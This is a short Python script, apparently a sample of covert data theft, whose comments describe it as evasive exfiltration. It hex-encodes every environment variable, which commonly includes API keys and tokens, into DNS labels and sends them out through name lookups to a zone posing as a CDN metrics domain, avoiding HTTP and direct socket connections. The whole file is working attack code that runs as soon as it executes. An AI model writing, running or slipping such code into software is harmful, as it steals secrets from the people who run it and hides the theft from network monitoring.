# Evasion: sends every environment variable out of the machine.
# Hiding: no HTTP and no socket.connect: each variable is hex-encoded into DNS
# labels and leaves through name lookups (socket.getaddrinfo) against an
# attacker-controlled zone; the lookups are expected to fail.
import os
import socket

ZONE = "cdn-metrics.example.com"


def labels(text, size=60):
    h = text.encode().hex()
    return [h[i:i + size] for i in range(0, len(h), size)]


def beacon():
    for n, (k, v) in enumerate(os.environ.items()):
        for i, part in enumerate(labels(k + "=" + v)):
            try:
                socket.getaddrinfo("%s.%d.%d.%s" % (part, n, i, ZONE), 443)
            except OSError:
                pass


beacon()
